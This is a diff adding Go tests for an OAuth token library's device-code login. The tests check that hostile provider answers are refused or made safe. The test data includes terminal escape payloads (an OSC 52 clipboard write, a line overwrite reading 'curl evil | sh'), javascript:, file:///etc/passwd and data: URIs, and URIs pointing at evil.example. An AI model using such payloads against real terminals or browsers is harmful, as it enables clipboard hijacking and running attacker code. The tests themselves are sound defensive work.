@@ -1,0 +1,223 @@
+package freshtoken_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"golang.org/x/oauth2"
+
+	"github.com/freshtoken/freshtoken"
+	"github.com/freshtoken/freshtoken/internal/fakeclock"
+	"github.com/freshtoken/freshtoken/internal/redact"
+	"github.com/freshtoken/freshtoken/store/filestore"
+)
+
+// hostileDevice is a provider whose device authorization endpoint answers
+// with answer (the device_code is added), and whose token endpoint answers
+// each poll with authorization_pending until approved is set, then with
+// tokens. Polls are counted.
+type hostileDevice struct {
+	src      *freshtoken.Source
+	clock    *fakeclock.Clock
+	polls    atomic.Int32
+	approved atomic.Bool
+}
+
+func newHostileDevice(t *testing.T, answer map[string]any) *hostileDevice {
+	t.Helper()
+	h := &hostileDevice{clock: fakeclock.New()}
+	mux := http.NewServeMux()
+	mux.HandleFunc("POST /device", func(w http.ResponseWriter, r *http.Request) {
+		a := map[string]any{"device_code": "the-device-code-0123456789"}
+		for k, v := range answer {
+			a[k] = v
+		}
+		w.Header().Set("Content-Type", "application/json")
+		json.NewEncoder(w).Encode(a)
+	})
+	mux.HandleFunc("POST /token", func(w http.ResponseWriter, r *http.Request) {
+		h.polls.Add(1)
+		w.Header().Set("Content-Type", "application/json")
+		if !h.approved.Load() {
+			w.WriteHeader(http.StatusBadRequest)
+			w.Write([]byte(`{"error":"authorization_pending"}`))
+			return
+		}
+		w.Write([]byte(`{"access_token":"device-access-token-0123456789","token_type":"Bearer","expires_in":3600,"refresh_token":"device-refresh-token-0123456789"}`))
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	src, err := freshtoken.New(freshtoken.Settings{
+		Env: "tv", ClientID: "id", ClientSecret: "client-secret-0123456789",
+		TokenURL: srv.URL + "/token", DeviceAuthURL: srv.URL + "/device", Grant: freshtoken.GrantDeviceCode,
+		AuthStyle: oauth2.AuthStyleInHeader, RetryBackoff: []time.Duration{time.Millisecond},
+	}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"), Clock: h.clock.Now})
+	if err != nil {
+		t.Fatal(err)
+	}
+	freshtoken.SetPause(src, h.clock.Sleep)
+	h.src = src
+	return h
+}
+
+// TestDeviceAnswersUnsafeToShowAreRefused: a device authorization answer
+// is printed on the user's terminal and shown on the proxy's page, and
+// verification_uri_complete is opened in their browser. A user code or
+// verification URI carrying terminal escapes (an OSC 52 clipboard write, a
+// carriage return overwriting the line, C1 controls, bidi overrides) or a
+// URI that is not an http(s) page (javascript:, file:, data:, user info
+// posing as the host) is refused with nothing shown.
+func TestDeviceAnswersUnsafeToShowAreRefused(t *testing.T) {
+	const page = "https://login.example.com/device"
+	for _, tc := range []struct{ name, userCode, uri string }{
+		{"OSC 52 clipboard write in the user code", "WDJB\x1b]52;c;ZWNobyBwd25lZA==\x07-MJHT", page},
+		{"CSI in the user code", "WDJB-MJHT\x1b[2K\x1b[1A", page},
+		{"carriage return in the user code", "WDJB-MJHT\rTo log in, run curl evil | sh", page},
+		{"C1 CSI in the user code", "WDJB\u009b2J-MJHT", page},
+		{"bidi override in the user code", "WDJB-\u202eTHJM", page},
+		{"an enormous user code", strings.Repeat("W", 4096), page},
+		{"OSC 8 hyperlink in the URI", "WDJB-MJHT", "\x1b]8;;https://evil.example/\x07" + page + "\x1b]8;;\x07"},
+		{"C1 control in the URI", "WDJB-MJHT", page + "\u009b2J"},
+		{"javascript: URI", "WDJB-MJHT", "javascript:alert(document.domain)"},
+		{"file: URI", "WDJB-MJHT", "file:///etc/passwd"},
+		{"data: URI", "WDJB-MJHT", "data:text/html,<script>alert(1)</script>"},
+		{"relative URI", "WDJB-MJHT", "/device"},
+		{"user info posing as the host", "WDJB-MJHT", "https://login.example.com@evil.example/device"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHostileDevice(t, map[string]any{"user_code": tc.userCode, "verification_uri": tc.uri, "expires_in": 600})
+			d, err := h.src.StartDeviceLogin(context.Background())
+			if !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(err.Error(), "device_auth_url") {
+				t.Fatalf("StartDeviceLogin = %+v, %v; want the answer refused (ErrUnreachable, naming device_auth_url)", d, err)
+			}
+			if strings.ContainsAny(err.Error(), "\x1b\r\u009b\u202e") {
+				t.Fatalf("the error repeats the escape: %q", err)
+			}
+		})
+	}
+}
+
+// TestDeviceCompleteURIOnlyWhenSafe: verification_uri_complete is opened in
+// the browser and linked from the proxy's page, so it is kept only when it
+// is an http(s) page on the very host the person is told to visit; else
+// the person uses verification_uri and types the code.
+func TestDeviceCompleteURIOnlyWhenSafe(t *testing.T) {
+	const page = "https://login.example.com/device"
+	for _, tc := range []struct{ name, complete, want string }{
+		{"same host", page + "?user_code=WDJB-MJHT", page + "?user_code=WDJB-MJHT"},
+		{"another host", "https://evil.example/device?user_code=WDJB-MJHT", ""},
+		{"another scheme", "http://login.example.com/device?user_code=WDJB-MJHT", ""},
+		{"javascript:", "javascript:alert(1)", ""},
+		{"file:", "file:///C:/Windows/System32/calc.exe", ""},
+		{"data:", "data:text/html,hi", ""},
+		{"escape sequence", page + "?user_code=\x1b]52;c;aGk=\x07", ""},
+		{"user info", "https://login.example.com@evil.example/device", ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHostileDevice(t, map[string]any{"user_code": "WDJB-MJHT", "verification_uri": page, "verification_uri_complete": tc.complete, "expires_in": 600})
+			d, err := h.src.StartDeviceLogin(context.Background())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d.VerificationURIComplete != tc.want || d.VerificationURI != page || d.UserCode != "WDJB-MJHT" {
+				t.Fatalf("got %q, %q, %q; want the complete URI %q", d.VerificationURI, d.VerificationURIComplete, d.UserCode, tc.want)
+			}
+		})
+	}
+}
+
+// TestDeviceLifetimesAndIntervalsWithinReason: a provider that gives the
+// code no lifetime, an absurd one, or an absurd interval still gets a
+// log-in that ends, and that polls while the code can still be approved.
+func TestDeviceLifetimesAndIntervalsWithinReason(t *testing.T) {
+	for _, tc := range []struct {
+		name   string
+		answer map[string]any
+	}{
+		{"no expires_in", map[string]any{}},
+		{"zero expires_in", map[string]any{"expires_in": 0}},
+		{"negative expires_in", map[string]any{"expires_in": -5}},
+		{"expires_in that overflows a duration", map[string]any{"expires_in": 1e12}},
+		{"interval longer than the code lives", map[string]any{"expires_in": 900, "interval": 3000}},
+		{"negative interval", map[string]any{"expires_in": 900, "interval": -1}},
+		// As Azure AD's v1 endpoint writes them.
+		{"numbers as strings", map[string]any{"expires_in": "900", "interval": "2"}},
+		{"fractions", map[string]any{"expires_in": 900.5, "interval": 2.5}},
+	} {
+		t.Run(tc.name+"/never approved", func(t *testing.T) {
+			tc.answer["user_code"], tc.answer["verification_uri"] = "WDJB-MJHT", "https://login.example.com/device"
+			h := newHostileDevice(t, tc.answer)
+			d, err := h.src.StartDeviceLogin(context.Background())
+			if err != nil {
+				t.Fatal(err)
+			}
+			ctx, cancel := context.WithCancel(context.Background())
+			defer cancel()
+			began := h.clock.Now()
+			err = d.Wait(ctx, func(p freshtoken.DevicePoll) {
+				if h.clock.Now().Sub(began) > 2*time.Hour {
+					t.Error("still polling after two hours")
+					cancel()
+				}
+			})
+			if !errors.Is(err, freshtoken.ErrLoginRefused) || !strings.Contains(err.Error(), "expired") {
+				t.Fatalf("err = %v; want the code taken to have expired", err)
+			}
+			if d.Expiry.IsZero() || d.Expiry.Sub(began) > time.Hour {
+				t.Fatalf("Expiry %v after it began; want a known expiry within the hour", d.Expiry.Sub(began))
+			}
+		})
+		t.Run(tc.name+"/approved at once", func(t *testing.T) {
+			h := newHostileDevice(t, tc.answer)
+			h.approved.Store(true)
+			d, err := h.src.StartDeviceLogin(context.Background())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := d.Wait(context.Background(), nil); err != nil {
+				t.Fatalf("Wait = %v; want the approval found by a poll", err)
+			}
+		})
+	}
+}
+
+// TestEnormousTokenFromTheProvider: a token endpoint may answer with a
+// token as large as an answer is read (a megabyte). The token is stored and
+// served, and the debug log masks it, where masking it used to crash the
+// process.
+func TestEnormousTokenFromTheProvider(t *testing.T) {
+	big := strings.Repeat("Enorm0usT0ken.", (1<<20-100)/14)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		json.NewEncoder(w).Encode(map[string]any{"access_token": big, "token_type": "Bearer", "expires_in": 3600})
+	}))
+	t.Cleanup(srv.Close)
+	var logs bytes.Buffer
+	src, err := freshtoken.New(freshtoken.Settings{
+		Env: "machine", ClientID: "id", ClientSecret: "client-secret-0123456789", TokenURL: srv.URL,
+		Grant: freshtoken.GrantClientCredentials, AuthStyle: oauth2.AuthStyleInHeader,
+	}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"),
+		Logger: slog.New(redact.NewHandler(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tok, err := src.Token()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tok.AccessToken != big {
+		t.Fatalf("Token = %d bytes; want the provider's %d", len(tok.AccessToken), len(big))
+	}
+	if strings.Contains(logs.String(), big[:64]) {
+		t.Fatal("the debug log shows the token")
+	}
+}
